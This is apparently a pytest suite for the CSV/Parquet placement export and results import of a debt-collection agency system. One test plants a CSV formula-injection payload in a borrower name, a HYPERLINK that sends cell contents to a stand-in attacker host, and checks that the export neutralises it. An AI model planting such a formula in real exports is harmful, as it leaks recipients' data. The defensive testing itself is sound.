"""File exchange: placements out (CSV, Parquet), results in — validated as a whole,
all-or-nothing through the gate, idempotent by reference."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import polars as pl
import pytest
import time_machine
from django.utils import timezone

from arrears.agencies import exchange
from arrears.agencies.models import ResultBatch
from arrears.collections.models import ContactAttempt, Promise
from tests import sharing
from tests.agencies.book import AgenciesKeys, build_agencies
from tests.agencies.conftest import Agencies, local
from tests.factories import valid_ric

pytestmark = pytest.mark.usefixtures("office_hours")


def _build() -> Agencies:
    """The book as the conftest's ``agencies`` writes it after ``office_hours``: at 10:30."""
    with time_machine.travel(local(timezone.localdate(), 10, 30), tick=False):
        return build_agencies()


@pytest.fixture(scope="module")
def _agencies(django_db_setup: None, django_db_blocker: Any) -> Iterator[AgenciesKeys]:
    """The conftest's book, built once for the module (tests/sharing.py)."""
    yield from sharing.module_book(django_db_blocker, _build, AgenciesKeys.of)


@pytest.fixture
def agencies(_agencies: AgenciesKeys, db: None) -> Agencies:
    """The module's book, loaded afresh (each test in its own savepoint)."""
    return _agencies.load()


def _csv(rows: list[dict[str, Any]]) -> bytes:
    names: list[str] = []
    for row in rows:
        names += [k for k in row if k not in names]
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=names)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


def _row(agencies: Agencies, case: int = 0, **extra: Any) -> dict[str, Any]:
    row = {
        "case_id": agencies.book.cases[case].pk,
        "at": local(agencies.book.today, 10, 0).isoformat(),
        "channel": "call",
        "party": "borrower",
        "outcome": "no_answer",
        "note": "",
    }
    row.update(extra)
    return row


def _applied() -> tuple[int, int, int]:
    return (
        ContactAttempt.objects.count(),
        Promise.objects.count(),
        ResultBatch.objects.count(),
    )


# --- export ---------------------------------------------------------------------------------


def test_the_csv_export_lists_the_agencys_live_placements_masked(agencies: Agencies) -> None:
    data = exchange.export_placements(agencies.acme, agencies.book.today, "csv").decode()
    rows = list(csv.DictReader(io.StringIO(data)))
    assert tuple(rows[0]) == exchange.EXPORT_COLUMNS
    cases = agencies.book.cases
    assert [int(r["case_id"]) for r in rows] == [cases[0].pk, cases[1].pk]
    assert rows[0]["loan_refs"] == "L-0"
    assert rows[0]["phones_masked"] == "'+86138****0001"  # a leading + is a formula to Excel
    assert valid_ric() not in data and "+8613800000001" not in data
    assert rows[0]["national_id_masked"].startswith("110101")
    assert rows[0]["total_due_minor"] == "90000" and rows[0]["placed_on"]


def test_the_csv_export_does_not_let_a_spreadsheet_run_a_name(agencies: Agencies) -> None:
    borrower = agencies.book.cases[0].borrower
    borrower.name = '=HYPERLINK("http://evil.example/?"&A1,"pay here")'
    borrower.save()
    data = exchange.export_placements(agencies.acme, agencies.book.today, "csv").decode()
    rows = list(csv.DictReader(io.StringIO(data)))
    assert rows[0]["borrower_name"] == "'" + borrower.name
    assert rows[0]["total_due_minor"] == "90000"  # numbers are left alone
    parquet = exchange.export_placements(agencies.acme, agencies.book.today, "parquet")
    assert pl.read_parquet(io.BytesIO(parquet))["borrower_name"][0] == borrower.name  # typed data


def test_the_parquet_export_has_typed_columns(agencies: Agencies) -> None:
    data = exchange.export_placements(agencies.bolt, agencies.book.today, "parquet")
    frame = pl.read_parquet(io.BytesIO(data))
    assert frame.columns == list(exchange.EXPORT_COLUMNS)
    assert frame["case_id"].to_list() == [agencies.book.cases[2].pk]
    assert frame.schema["total_due_minor"] == pl.Int64
    assert frame.schema["placed_on"] == pl.Date


def test_an_empty_export_still_has_its_header(agencies: Agencies) -> None:
    for p in agencies.placements:
        p.recalled_on = agencies.book.today
        p.save()
    data = exchange.export_placements(agencies.acme, agencies.book.today, "csv").decode()
    assert data.strip() == ",".join(exchange.EXPORT_COLUMNS)


# --- import ---------------------------------------------------------------------------------


def test_a_good_csv_is_applied_through_the_contact_log_with_the_agency(agencies: Agencies) -> None:
    today = agencies.book.today
    rows = [
        _row(agencies),
        _row(
            agencies,
            case=1,
            outcome="promise",
            promise_amount_minor="50000",
            promise_due_date=(today + timedelta(days=5)).isoformat(),
        ),
    ]
    outcome = exchange.import_results(agencies.acme, _csv(rows), "csv", reference="2026-12-02-a")
    assert not outcome.replayed and outcome.summary == {"contacts": 2, "promises": 1}
    contacts = ContactAttempt.objects.order_by("id")
    assert {c.agency for c in contacts} == {agencies.acme}
    assert {c.gate_outcome for c in contacts} == {"allow"}
    promise = Promise.objects.get()
    assert (promise.agency, promise.amount_minor, promise.case) == (
        agencies.acme,
        50_000,
        agencies.book.cases[1],
    )
    batch = ResultBatch.objects.get()
    assert (batch.reference, batch.rows, batch.source) == ("2026-12-02-a", 2, "file")


def test_a_loan_reference_names_the_case(agencies: Agencies) -> None:
    row = _row(agencies)
    del row["case_id"]
    row["loan_ref"] = "L-1"
    exchange.import_results(agencies.acme, _csv([row]), "csv", reference="by-loan")
    assert ContactAttempt.objects.get().case == agencies.book.cases[1]


def test_a_bad_file_is_refused_with_every_row_error_and_nothing_applied(
    agencies: Agencies,
) -> None:
    rows = [
        _row(agencies),  # fine on its own
        _row(agencies, channel="fax"),
        _row(agencies, at="yesterday"),
        _row(agencies, case=2),  # bolt's case
        _row(agencies, outcome="promise"),  # no amount
        _row(agencies, promise_amount_minor="12.50"),
        _row(agencies, channel="email"),  # not in acme's contract
        _row(agencies, party="third_party"),
        _row(agencies, note="x" * (exchange.MAX_NOTE + 1)),
        _row(agencies, at=local(agencies.book.today + timedelta(days=1), 10).isoformat()),
    ]
    before = _applied()
    with pytest.raises(exchange.ResultsRefused) as refused:
        exchange.import_results(agencies.acme, _csv(rows), "csv", reference="bad")
    assert _applied() == before
    lines = [e.line() for e in refused.value.errors]
    found = {(e.row, e.field, e.code) for e in refused.value.errors}
    assert (2, "channel", "results-unknown-value") in found
    assert (3, "at", "results-not-datetime") in found
    assert (4, "case_id", "results-case-not-placed") in found
    assert (5, "promise_amount_minor", "results-promise-fields") in found
    assert (6, "promise_amount_minor", "results-not-integer") in found
    assert (7, "channel", "agency-channel-not-permitted") in found
    assert (8, "party", "agency-party-not-permitted") in found
    assert (9, "note", "results-too-long") in found
    assert (10, "at", "results-at-future") in found
    assert not any(e.row == 1 for e in refused.value.errors)
    assert (
        f"row 4, field case_id: {agencies.book.cases[2].pk} is not a case placed with your agency"
        in lines
    )


def test_a_collected_amount_is_refused_whatever_its_name(agencies: Agencies) -> None:
    rows = [_row(agencies, paid_amount="10000"), _row(agencies, amount_collected="1")]
    with pytest.raises(exchange.ResultsRefused) as refused:
        exchange.import_results(agencies.acme, _csv(rows), "csv", reference="cash")
    codes = {(e.row, e.field, e.code) for e in refused.value.errors}
    assert codes == {
        (1, "paid_amount", "results-collected-refused"),
        (2, "amount_collected", "results-collected-refused"),
    }
    assert "payments come only from the ledger" in refused.value.errors[0].message()


def test_a_call_at_2300_is_refused_by_the_gate_and_the_whole_batch_with_it(
    agencies: Agencies,
) -> None:
    yesterday = agencies.book.today - timedelta(days=1)
    rows = [
        _row(agencies),
        _row(agencies, case=1, at=local(yesterday, 23, 0).isoformat()),
    ]
    with pytest.raises(exchange.ResultsRefused) as refused:
        exchange.import_results(agencies.acme, _csv(rows), "csv", reference="night")
    [error] = refused.value.errors
    assert (error.row, error.field) == (2, "at")
    assert error.code in ("agency-gate-denied", "agency-gate-deferred")
    assert "cn.hours" in error.message() and "override" not in error.message()
    assert _applied() == (0, 0, 0)


def test_resending_the_same_batch_is_a_no_op_and_other_content_is_refused(
    agencies: Agencies,
) -> None:
    data = _csv([_row(agencies)])
    first = exchange.import_results(agencies.acme, data, "csv", reference="R1")
    again = exchange.import_results(agencies.acme, data, "csv", reference="R1")
    assert again.replayed and again.batch == first.batch
    assert _applied() == (1, 0, 1)
    other = _csv([_row(agencies, outcome="hung_up")])
    with pytest.raises(exchange.ResultsConflict) as conflict:
        exchange.import_results(agencies.acme, other, "csv", reference="R1")
    assert conflict.value.code == "results-reference-conflict"
    assert _applied() == (1, 0, 1)
    # the same rows as Parquet are the same content
    frame = pl.DataFrame([_row(agencies)])
    out = io.BytesIO()
    frame.write_parquet(out)
    assert exchange.import_results(
        agencies.acme, out.getvalue(), "parquet", reference="R1"
    ).replayed


def test_a_parquet_file_is_applied_and_a_float_amount_refused(agencies: Agencies) -> None:
    due = agencies.book.today + timedelta(days=3)
    good = pl.DataFrame(
        [_row(agencies, outcome="promise", promise_amount_minor=12_345, promise_due_date=due)]
    )
    out = io.BytesIO()
    good.write_parquet(out)
    exchange.import_results(agencies.acme, out.getvalue(), "parquet", reference="pq")
    assert Promise.objects.get().amount_minor == 12_345
    bad = pl.DataFrame(
        [_row(agencies, outcome="promise", promise_amount_minor=123.45, promise_due_date=due)]
    )
    out = io.BytesIO()
    bad.write_parquet(out)
    with pytest.raises(exchange.ResultsRefused) as refused:
        exchange.import_results(agencies.acme, out.getvalue(), "parquet", reference="pq2")
    assert [e.code for e in refused.value.errors] == ["results-not-integer"]


@pytest.mark.parametrize(
    ("data", "fmt", "code"),
    [
        (b"x" * (exchange.MAX_FILE_BYTES + 1), "csv", "results-file-too-large"),
        (b"not parquet at all", "parquet", "results-file-unreadable"),
        (b"case_id,at\n", "csv", "results-empty"),
        (b"a", "xlsx", "results-format"),
    ],
)
def test_hostile_files_are_refused_before_anything_is_read(
    agencies: Agencies, data: bytes, fmt: str, code: str
) -> None:
    with pytest.raises(exchange.ResultsRefused) as refused:
        exchange.import_results(agencies.acme, data, fmt, reference="hostile")
    assert [e.code for e in refused.value.errors] == [code]


def test_too_many_rows_are_refused(agencies: Agencies) -> None:
    data = _csv([_row(agencies)] * (exchange.MAX_ROWS + 1))
    with pytest.raises(exchange.ResultsRefused) as refused:
        exchange.import_results(agencies.acme, data, "csv", reference="big")
    assert [e.code for e in refused.value.errors] == ["results-too-many-rows"]


def test_a_reference_is_required_and_bounded(agencies: Agencies) -> None:
    for reference in ("", "r" * (exchange.MAX_REFERENCE + 1)):
        with pytest.raises(exchange.ResultsRefused) as refused:
            exchange.import_results(
                agencies.acme, _csv([_row(agencies)]), "csv", reference=reference
            )
        assert refused.value.errors[0].code == "results-reference"


def test_a_contact_reported_twice_is_refused_in_a_batch_and_across_batches(
    agencies: Agencies,
) -> None:
    with pytest.raises(exchange.ResultsRefused) as refused:
        exchange.import_results(
            agencies.acme, _csv([_row(agencies), _row(agencies)]), "csv", reference="dup"
        )
    assert [(e.row, e.code) for e in refused.value.errors] == [(2, "results-contact-duplicate")]
    exchange.import_results(agencies.acme, _csv([_row(agencies)]), "csv", reference="first")
    with pytest.raises(exchange.ResultsRefused) as refused:
        exchange.import_results(
            agencies.acme, _csv([_row(agencies, note="again")]), "csv", reference="second"
        )
    assert [e.code for e in refused.value.errors] == ["results-contact-duplicate"]
    assert _applied() == (1, 0, 1)


def test_columns_are_bounded_and_unique(agencies: Agencies) -> None:
    wide = ",".join(f"c{n}" for n in range(exchange.MAX_COLUMNS + 1)) + "\n"
    with pytest.raises(exchange.ResultsRefused) as refused:
        exchange.import_results(agencies.acme, wide.encode(), "csv", reference="wide")
    assert [e.code for e in refused.value.errors] == ["results-too-many-columns"]
    with pytest.raises(exchange.ResultsRefused) as refused:
        exchange.import_results(agencies.acme, b"note,note\nx,y\n", "csv", reference="twice")
    assert [e.code for e in refused.value.errors] == ["results-duplicate-column"]


def test_a_parquet_file_that_would_expand_too_far_is_refused_unread(agencies: Agencies) -> None:
    rows = [_row(agencies, note="x" * 900 + str(n)) for n in range(999)]  # compresses well
    out = io.BytesIO()
    pl.DataFrame(rows).write_parquet(out, compression="zstd")
    assert len(out.getvalue()) < exchange.MAX_FILE_BYTES
    old = exchange.MAX_UNCOMPRESSED_BYTES
    try:
        exchange.MAX_UNCOMPRESSED_BYTES = 100_000
        with pytest.raises(exchange.ResultsRefused) as refused:
            exchange.import_results(agencies.acme, out.getvalue(), "parquet", reference="bomb")
    finally:
        exchange.MAX_UNCOMPRESSED_BYTES = old
    assert [e.code for e in refused.value.errors] == ["results-file-too-large"]


def test_a_huge_case_id_is_not_a_crash(agencies: Agencies) -> None:
    rows = [_row(agencies, case_id="9" * 19)]
    with pytest.raises(exchange.ResultsRefused) as refused:
        exchange.import_results(agencies.acme, _csv(rows), "csv", reference="huge")
    assert [e.code for e in refused.value.errors] == ["results-case-not-placed"]


def test_an_unknown_column_and_extra_cells_are_row_errors(agencies: Agencies) -> None:
    data = _csv([_row(agencies, colour="blue")]) + b"1,2,3,4,5,6,7,8,9\n"
    with pytest.raises(exchange.ResultsRefused) as refused:
        exchange.import_results(agencies.acme, data, "csv", reference="odd")
    found = {(e.row, e.field, e.code) for e in refused.value.errors}
    assert (1, "colour", "results-unknown-field") in found
    assert (2, "(extra cells)", "results-unknown-field") in found
    assert refused.value.errors[0].message() == "colour is not a result field"


def test_the_rows_take_the_same_queries_for_two_placements_or_five(agencies: Agencies) -> None:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from arrears.collections.models import Case
    from tests import factories
    from tests.agencies.conftest import place

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            exchange.placement_rows(agencies.acme, agencies.book.today)
        return len(captured)

    few = queries()
    product = agencies.book.cases[0].borrower.loans.get().product
    for n in range(3):
        owner = factories.borrower(f"X-{n}", phone=f"+861390000000{n}")
        factories.loan(f"LX-{n}", owner, product)
        case = Case.objects.create(
            borrower=owner, currency="CNY", opened_on=agencies.book.today, total_due_minor=1
        )
        place(case, agencies.acme, agencies.book.today)
    assert len(exchange.placement_rows(agencies.acme, agencies.book.today)) == 5
    assert queries() == few


def test_an_agencys_promise_is_kept_only_by_a_payment_in_the_ledger(
    agencies: Agencies, django_capture_on_commit_callbacks: Any
) -> None:
    from arrears.ledger.services import record_payment

    today = agencies.book.today
    row = _row(
        agencies,
        outcome="promise",
        promise_amount_minor="50000",
        promise_due_date=(today + timedelta(days=3)).isoformat(),
    )
    exchange.import_results(agencies.acme, _csv([row]), "csv", reference="ptp")
    promise = Promise.objects.get()
    assert promise.status == Promise.Status.PENDING
    loan = agencies.book.cases[0].borrower.loans.get()
    with django_capture_on_commit_callbacks(execute=True):
        record_payment(loan=loan, ref="P-1", value_date=today, amount_minor=50_000, currency="CNY")
    promise.refresh_from_db()
    assert (promise.status, promise.paid_minor) == (Promise.Status.KEPT, 50_000)
    assert promise.agency == agencies.acme


def test_a_resend_racing_the_first_send_applies_nothing_twice(
    agencies: Agencies, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two requests with one batch: the second checked before the first committed, so it
    applies the rows too — then the unique reference refuses its batch row, everything it did
    rolls back, and it answers with the first one's result."""
    data = _csv([_row(agencies)])
    first = exchange.import_results(agencies.acme, data, "csv", reference="race")
    ContactAttempt.objects.all().delete()  # as if the first had not yet committed its rows
    real = exchange._earlier
    calls: list[int] = []

    def not_yet(*args: Any) -> Any:
        calls.append(1)
        return None if len(calls) == 1 else real(*args)

    monkeypatch.setattr(exchange, "_earlier", not_yet)
    monkeypatch.setattr(
        exchange,
        "check_rows",
        lambda agency, results, now, day: ({r.row: agencies.placements[0] for r in results}, []),
    )
    second = exchange.import_results(agencies.acme, data, "csv", reference="race")
    assert second.replayed and second.batch == first.batch
    assert not ContactAttempt.objects.exists() and ResultBatch.objects.count() == 1
